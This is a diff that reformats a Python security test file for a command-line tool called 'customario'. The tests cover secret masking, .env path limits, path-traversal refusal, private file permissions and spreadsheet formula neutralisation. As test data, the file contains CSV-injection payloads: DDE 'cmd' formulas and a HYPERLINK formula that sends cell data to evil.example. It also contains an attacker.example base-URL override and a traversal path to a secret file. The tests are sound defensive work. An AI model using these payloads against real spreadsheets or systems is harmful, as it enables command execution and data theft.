@@ -19,32 +19,51 @@ from conftest import REPO
 
 sys.path.insert(0, str(Path(__file__).parent))
 
-PLANTED = ["PLANTED-LIVEKIT-7f3a", "PLANTED-ANTHROPIC-9c1d", "PLANTED-WEBHOOK-PW-44e2", "PLANTED-QUERY-TOKEN-1b7e",
-           "PLANTED-DOTENV-SMTP-0a9c", "PLANTED-API-TOKEN-5d5d"]
+PLANTED = [
+    "PLANTED-LIVEKIT-7f3a",
+    "PLANTED-ANTHROPIC-9c1d",
+    "PLANTED-WEBHOOK-PW-44e2",
+    "PLANTED-QUERY-TOKEN-1b7e",
+    "PLANTED-DOTENV-SMTP-0a9c",
+    "PLANTED-API-TOKEN-5d5d",
+]
 
 
 def _run(*args, cwd, env=None, umask: int | None = None, timeout=120):
-    full = {k: v for k, v in os.environ.items() if not k.startswith(("CUSTOMARIO_", "LIVEKIT_", "ANTHROPIC_", "GOOGLE_"))}
+    full = {
+        k: v for k, v in os.environ.items() if not k.startswith(("CUSTOMARIO_", "LIVEKIT_", "ANTHROPIC_", "GOOGLE_"))
+    }
     full.update({"PYTHONPATH": str(REPO)})
     full.update(env or {})
-    return subprocess.run([sys.executable, "-m", "customario", *map(str, args)], cwd=cwd, env=full, capture_output=True,
-                          text=True, timeout=timeout, preexec_fn=(lambda: os.umask(umask)) if umask is not None else None)
+    return subprocess.run(
+        [sys.executable, "-m", "customario", *map(str, args)],
+        cwd=cwd,
+        env=full,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        preexec_fn=(lambda: os.umask(umask)) if umask is not None else None,
+    )
 
 
 # -- item 4: secrets ---------------------------------------------------------------------------
 
-@pytest.mark.parametrize("yaml_text", [
-    "LIVEKIT_API_SECRET: {s}\n",
-    "ANTHROPIC_API_KEY: {s}\n",
-    "livekit-api-secret: {s}\n",
-    "Livekit.Api.Secret: {s}\n",
-    "anthropic:\n  api_key: {s}\n",
-    "providers:\n  - name: twilio\n    auth-token: {s}\n",
-    "smtp:\n  Password: {s}\n",
-    "webhook_url: https://bob:{s}@hooks.example.com/x\n",
-    "livekit_url: wss://user:{s}@lk.example.com\n",
-    "webhook_url: https://hooks.example.com/x?token={s}\n",
-])
+
+@pytest.mark.parametrize(
+    "yaml_text",
+    [
+        "LIVEKIT_API_SECRET: {s}\n",
+        "ANTHROPIC_API_KEY: {s}\n",
+        "livekit-api-secret: {s}\n",
+        "Livekit.Api.Secret: {s}\n",
+        "anthropic:\n  api_key: {s}\n",
+        "providers:\n  - name: twilio\n    auth-token: {s}\n",
+        "smtp:\n  Password: {s}\n",
+        "webhook_url: https://bob:{s}@hooks.example.com/x\n",
+        "livekit_url: wss://user:{s}@lk.example.com\n",
+        "webhook_url: https://hooks.example.com/x?token={s}\n",
+    ],
+)
 def test_config_file_secrets_are_refused_in_every_spelling(tmp_path, yaml_text):
     from customario.config import load_settings
     from customario.errors import ConfigError
@@ -59,8 +78,10 @@ def test_config_file_secrets_are_refused_in_every_spelling(tmp_path, yaml_text):
 def test_ordinary_keys_that_look_a_little_like_secrets_are_accepted(tmp_path):
     from customario.config import load_settings
 
-    (tmp_path / "customario.yaml").write_text("region: US\nwebhook_url: https://hooks.example.com/x\nplugins:\n  loyalty:\n"
-                                              "    max_tokens: 300\n    keyword: x\n    token_budget: 5\n    secret_santa: ''\n")
+    (tmp_path / "customario.yaml").write_text(
+        "region: US\nwebhook_url: https://hooks.example.com/x\nplugins:\n  loyalty:\n"
+        "    max_tokens: 300\n    keyword: x\n    token_budget: 5\n    secret_santa: ''\n"
+    )
     s = load_settings(env={}, cwd=tmp_path, load_dotenv_file=False)
     assert s.webhook_url == "https://hooks.example.com/x" and s.extra["plugins"]["loyalty"]["max_tokens"] == 300
 
@@ -72,14 +93,31 @@ def test_planted_secrets_never_appear_in_any_command_output(tmp_path, db_path):
     project.mkdir()
     (project / "customario.yaml").write_text("region: US\nstack: offline\nplugins:\n  loyalty:\n    note: fine\n")
     (project / ".env").write_text(f"CUSTOMARIO_SMTP_PASSWORD={PLANTED[4]}\nCUSTOMARIO_API_TOKEN={PLANTED[5]}\n")
-    env = {"CUSTOMARIO_DB": str(db_path), "LIVEKIT_API_SECRET": PLANTED[0], "LIVEKIT_API_KEY": "APIkey",
-           "LIVEKIT_URL": "ws://127.0.0.1:9", "ANTHROPIC_API_KEY": PLANTED[1],
-           "CUSTOMARIO_WEBHOOK_URL": f"https://bob:{PLANTED[2]}@hooks.example.com/hook?token={PLANTED[3]}"}
-    commands = [["config", "show"], ["config", "show", "--json"], ["--help"], ["plugins", "--json"], ["db", "status"],
-                ["doctor"], ["doctor", "--json"], ["campaign", "list"], ["-v", "config", "show"],
-                ["--config", "missing.yaml", "config", "show"], ["--env-file", "nope.env", "config", "show"],
-                ["leads", "import", "nope.csv", "--list", "x"], ["config", "show", "--bogus"],
-                ["-vv", "doctor"], ["-vv", "config", "show", "--json"]]
+    env = {
+        "CUSTOMARIO_DB": str(db_path),
+        "LIVEKIT_API_SECRET": PLANTED[0],
+        "LIVEKIT_API_KEY": "APIkey",
+        "LIVEKIT_URL": "ws://127.0.0.1:9",
+        "ANTHROPIC_API_KEY": PLANTED[1],
+        "CUSTOMARIO_WEBHOOK_URL": f"https://bob:{PLANTED[2]}@hooks.example.com/hook?token={PLANTED[3]}",
+    }
+    commands = [
+        ["config", "show"],
+        ["config", "show", "--json"],
+        ["--help"],
+        ["plugins", "--json"],
+        ["db", "status"],
+        ["doctor"],
+        ["doctor", "--json"],
+        ["campaign", "list"],
+        ["-v", "config", "show"],
+        ["--config", "missing.yaml", "config", "show"],
+        ["--env-file", "nope.env", "config", "show"],
+        ["leads", "import", "nope.csv", "--list", "x"],
+        ["config", "show", "--bogus"],
+        ["-vv", "doctor"],
+        ["-vv", "config", "show", "--json"],
+    ]
     seen = []
     for args in commands:
         r = _run(*args, cwd=project, env=env)
@@ -87,12 +125,13 @@ def test_planted_secrets_never_appear_in_any_command_output(tmp_path, db_path):
         for secret in PLANTED:
             assert secret not in r.stdout and secret not in r.stderr, (args, secret)
     shown = json.loads(_run("config", "show", "--json", cwd=project, env=env).stdout)
-    assert shown["smtp_password"] == "***" and shown["api_token"] == "***"          # the project .env was read
+    assert shown["smtp_password"] == "***" and shown["api_token"] == "***"  # the project .env was read
     assert shown["webhook_url"] == "https://***@hooks.example.com/hook?token=***"
-    assert all(code != 1 for _args, code in seen), seen                          # no internal errors either
+    assert all(code != 1 for _args, code in seen), seen  # no internal errors either
 
 
 # -- item 3: .env and definition paths ---------------------------------------------------------
+
 
 def test_dotenv_is_read_only_from_the_project_folder_or_env_file(tmp_path, db_path):
     stray = tmp_path / "downloads"
@@ -100,15 +139,17 @@ def test_dotenv_is_read_only_from_the_project_folder_or_env_file(tmp_path, db_pa
     (stray / ".env").write_text("ANTHROPIC_BASE_URL=https://attacker.example\n")
     env = {"CUSTOMARIO_DB": str(db_path)}
     shown = json.loads(_run("config", "show", "--json", cwd=stray, env=env).stdout)
-    assert shown["anthropic_base_url"] is None                       # a .env where the command runs is ignored
+    assert shown["anthropic_base_url"] is None  # a .env where the command runs is ignored
     explicit = json.loads(_run("--env-file", stray / ".env", "config", "show", "--json", cwd=tmp_path, env=env).stdout)
-    assert explicit["anthropic_base_url"] == "https://attacker.example"   # the user named it
-    (stray / "customario.yaml").write_text("region: US\n")             # now it is a project: its .env counts
+    assert explicit["anthropic_base_url"] == "https://attacker.example"  # the user named it
+    (stray / "customario.yaml").write_text("region: US\n")  # now it is a project: its .env counts
     shown = json.loads(_run("config", "show", "--json", cwd=stray, env=env).stdout)
     assert shown["anthropic_base_url"] == "https://attacker.example"
     other = tmp_path / "elsewhere"
     other.mkdir()
-    viaconfig = json.loads(_run("--config", stray / "customario.yaml", "config", "show", "--json", cwd=other, env=env).stdout)
+    viaconfig = json.loads(
+        _run("--config", stray / "customario.yaml", "config", "show", "--json", cwd=other, env=env).stdout
+    )
     assert viaconfig["anthropic_base_url"] == "https://attacker.example"
     missing = _run("--env-file", tmp_path / "none.env", "config", "show", cwd=other, env=env)
     assert missing.returncode == 3 and "does not exist" in missing.stderr
@@ -118,8 +159,11 @@ def _salon_copy(tmp_path: Path, profile: str) -> Path:
     src = REPO / "customario" / "campaigns" / "salon_reception"
     folder = tmp_path / "def"
     shutil.copytree(src / "knowledge", folder / "knowledge")
-    text = (src / "salon_reception.yaml").read_text().replace("business_profile: knowledge/business_profile.yaml",
-                                                                f"business_profile: {profile}")
+    text = (
+        (src / "salon_reception.yaml")
+        .read_text()
+        .replace("business_profile: knowledge/business_profile.yaml", f"business_profile: {profile}")
+    )
     (folder / "salon.yaml").write_text(text)
     return folder / "salon.yaml"
 
@@ -129,7 +173,7 @@ def test_definition_paths_outside_the_definition_folder_are_refused(tmp_path, pr
     secret = tmp_path / "secret.json"
     secret.write_text('[{"question": "What is the admin password?", "answer": "hunter2"}]')
     path = _salon_copy(tmp_path, profile)
-    (path.parent / "link.json").symlink_to(secret)                    # a link that leads out counts as out
+    (path.parent / "link.json").symlink_to(secret)  # a link that leads out counts as out
     r = cli("campaign", "validate", str(path))
     assert r.exit_code == 65, r.stdout + r.stderr
     assert "points outside the definition's folder" in r.stderr and profile in r.stderr
@@ -145,7 +189,7 @@ def test_a_stored_campaign_with_an_escaping_path_is_refused_at_run_time(tmp_path
     (tmp_path / "secret.json").write_text('[{"question": "q?", "answer": "hunter2"}]')
     good = _salon_copy(tmp_path, "knowledge/business_profile.yaml")
     data = load_yaml_mapping(good)
-    data["settings"]["business_profile"] = "../secret.json"           # stored before the check existed
+    data["settings"]["business_profile"] = "../secret.json"  # stored before the check existed
     stored, _ = add_campaign(db, parse_definition(data, str(good)), str(good))
     with pytest.raises(DefinitionError, match="points outside"):
         ensure_campaign_knowledge(db, stored)
@@ -164,8 +208,15 @@ def test_a_definition_path_inside_its_folder_still_works(tmp_path, db):
 
 # -- item 5: exports that attack spreadsheets --------------------------------------------------
 
-PAYLOADS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
-            "\t=1+2", "\r=1+2", '=HYPERLINK("https://evil.example/?"&A1,"click")']
+PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+]
 
 
 def test_neutralise_follows_owasp_and_keeps_numbers():
@@ -183,7 +234,7 @@ def test_lead_export_and_rejects_neutralise_formulas_unless_raw(cli, tmp_path):
         w = csv.writer(fh)
         w.writerow(["name", "phone", "company", "notes"])
         w.writerow([PAYLOADS[0], "+1 212 555 0101", PAYLOADS[3], PAYLOADS[2]])
-        w.writerow(["Bob", PAYLOADS[6], "Acme", PAYLOADS[1]])          # invalid phone: a reject
+        w.writerow(["Bob", PAYLOADS[6], "Acme", PAYLOADS[1]])  # invalid phone: a reject
     rejects = tmp_path / "rejects.csv"
     assert cli("leads", "import", str(leads), "--list", "x", "--rejects", str(rejects)).exit_code == 0
     rej = list(csv.DictReader(rejects.open(newline="")))
@@ -192,7 +243,7 @@ def test_lead_export_and_rejects_neutralise_formulas_unless_raw(cli, tmp_path):
     assert cli("leads", "export", "-o", str(out)).exit_code == 0
     row = next(csv.DictReader(out.open(newline="")))
     assert row["name"] == "'" + PAYLOADS[0] and row["company"] == "'" + PAYLOADS[3] and row["e164"] == "+12125550101"
-    assert json.loads(row["attributes"]) == {"notes": PAYLOADS[2]}            # JSON text starts with {: inert
+    assert json.loads(row["attributes"]) == {"notes": PAYLOADS[2]}  # JSON text starts with {: inert
     raw = cli("leads", "export", "--raw").stdout
     assert next(csv.DictReader(io.StringIO(raw)))["name"] == PAYLOADS[0]
     listing = cli("leads", "list", "--csv").stdout
@@ -218,6 +269,7 @@ def test_typed_answers_in_response_exports_are_neutralised(cli, db, tmp_path):
 
 # -- item 6: private by default ----------------------------------------------------------------
 
+
 def _mode(p: Path) -> int:
     return p.stat().st_mode & 0o777
 
@@ -228,7 +280,9 @@ def test_database_exports_rejects_and_backups_are_private_under_a_loose_umask(tm
     env = {"XDG_DATA_HOME": str(data), "HOME": str(tmp_path)}
     leads = tmp_path / "leads.csv"
     leads.write_text("name,phone\nAnn,+1 212 555 0101\nBad,12\n")
-    r = _run("leads", "import", leads, "--list", "x", "--rejects", tmp_path / "rej.csv", cwd=tmp_path, env=env, umask=0o022)
+    r = _run(
+        "leads", "import", leads, "--list", "x", "--rejects", tmp_path / "rej.csv", cwd=tmp_path, env=env, umask=0o022
+    )
     assert r.returncode == 0, r.stderr
     assert db.is_file() and _mode(db) == 0o600 and _mode(db.parent) == 0o700 and _mode(data) == 0o700
     for suffix in ("-wal", "-shm"):
@@ -274,13 +328,17 @@ def test_error_messages_carry_no_phone_numbers_or_emails_from_the_data(tmp_path,
 
 # -- item 7: bounded values (landed with issue 15; checked here from YAML text) ---------------------
 
-@pytest.mark.parametrize("old,new", [
-    ("max_cents: 500", "max_cents: 1000000000000000000000000000000"),
-    ("weight: 3", "weight: .inf"),
-    ("weight: 3", "weight: .nan"),
-    ("max_attempts: 3", "max_attempts: 100000000000000000000"),
-    ("busy: 30m", "busy: .inf"),
-])
+
+@pytest.mark.parametrize(
+    "old,new",
+    [
+        ("max_cents: 500", "max_cents: 1000000000000000000000000000000"),
+        ("weight: 3", "weight: .inf"),
+        ("weight: 3", "weight: .nan"),
+        ("max_attempts: 3", "max_attempts: 100000000000000000000"),
+        ("busy: 30m", "busy: .inf"),
+    ],
+)
 def test_unbounded_or_non_finite_numbers_in_a_definition_are_refused(tmp_path, old, new, cli):
     src = REPO / "customario" / "campaigns" / "customer_feedback" / "customer_feedback.yaml"
     text = src.read_text()
@@ -298,8 +356,15 @@ def test_log_lines_and_error_lines_mask_secrets(monkeypatch, capsys):
     from customario.config import SecretMaskingFilter, mask_secrets
 
     monkeypatch.setenv("CUSTOMARIO_TWILIO_AUTH_TOKEN", PLANTED[3])
-    record = logging.LogRecord("x", logging.INFO, __file__, 1, "POST %s with %s", (
-        f"https://bob:{PLANTED[2]}@hooks.example.com/x", PLANTED[3]), None)
+    record = logging.LogRecord(
+        "x",
+        logging.INFO,
+        __file__,
+        1,
+        "POST %s with %s",
+        (f"https://bob:{PLANTED[2]}@hooks.example.com/x", PLANTED[3]),
+        None,
+    )
     assert SecretMaskingFilter().filter(record)
     line = record.getMessage()
     assert PLANTED[2] not in line and PLANTED[3] not in line and "https://***@hooks.example.com/x" in line
@@ -314,7 +379,9 @@ def test_log_lines_and_error_lines_mask_secrets(monkeypatch, capsys):
 
     @app.command("boom")
     def boom() -> None:
-        raise ExternalServiceError(f"ConnectError: https://u:{PLANTED[2]}@h.example failed, token {PLANTED[3]}", "Retry")
+        raise ExternalServiceError(
+            f"ConnectError: https://u:{PLANTED[2]}@h.example failed, token {PLANTED[3]}", "Retry"
+        )
 
     r = CliRunner().invoke(app, ["boom"])
     assert r.exit_code == 5 and PLANTED[2] not in r.stderr and PLANTED[3] not in r.stderr and "***" in r.stderr
